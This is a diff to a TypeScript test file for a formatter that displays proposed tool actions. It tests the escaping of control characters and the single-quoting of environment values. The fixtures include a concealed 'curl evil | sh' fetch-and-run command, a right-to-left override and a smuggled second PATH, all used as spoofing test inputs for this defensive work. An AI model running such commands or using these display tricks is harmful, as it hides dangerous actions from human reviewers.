@@ -38,7 +38,7 @@ describe("proposal facts: one typed view and one formatter for every client", ()
       { label: "tool", value: "sh" },
       { label: "command", value: "ls\\r\\e[2Kcurl evil | sh" },
       { label: "cwd", value: "sub\\u{202e}dir" },
-      { label: "env", value: "HOOK=./x\\e[8m.sh MODE=fast" },
+      { label: "env", value: "HOOK='./x\\e[8m.sh' MODE=fast" },
       { label: "tty", value: "120×40" },
       { label: "runner", value: "build\\tbox" },
       { label: "sandbox", value: "workspace-write (sandbox: only the project directory is writable)" },
@@ -47,7 +47,7 @@ describe("proposal facts: one typed view and one formatter for every client", ()
     ]);
     const text = factsText(facts, { indent: "  " });
     expect(text.split("\n")).toHaveLength(9);
-    expect(text).toContain("  env         HOOK=./x\\e[8m.sh MODE=fast");
+    expect(text).toContain("  env         HOOK='./x\\e[8m.sh' MODE=fast");
     expect(text).not.toMatch(/[\r\u001b\t\u202e]/);
   });
 
@@ -99,6 +99,15 @@ describe("proposal facts: one typed view and one formatter for every client", ()
     }
     // Visible text outside the BMP (an emoji) stays as it is; a lone astral character is one escape, not two halves.
     expect(escapeControl("ok 😀")).toBe("ok 😀");
+  });
+
+  it("an environment value that holds a space, =, a quote or nothing is single-quoted, so it cannot pass for another variable", () => {
+    const env = (e: Record<string, string>) => byLabel(factLines(proposalFacts({ env: e }))).env;
+    // Unquoted, this read "PATH=/p/fakebin:/usr/bin Z=x PATH=/usr/bin": two PATHs, the harmless one last.
+    expect(env({ PATH: "/p/fakebin:/usr/bin", Z: "x PATH=/usr/bin" })).toBe("PATH=/p/fakebin:/usr/bin Z='x PATH=/usr/bin'");
+    expect(env({ A: "", B: "a=b", C: "it's", D: 'say "hi"', E: "plain-1.2_x/y:z" })).toBe("A='' B='a=b' C='it'\\''s' D='say \"hi\"' E=plain-1.2_x/y:z");
+    // Escaping happens first: a newline is shown as \n inside the quotes, never as a line break.
+    expect(env({ X: "a\nb" })).toBe("X='a\\nb'");
   });
 
   it("the default runner: the project's default, else the embedded one, else none", () => {
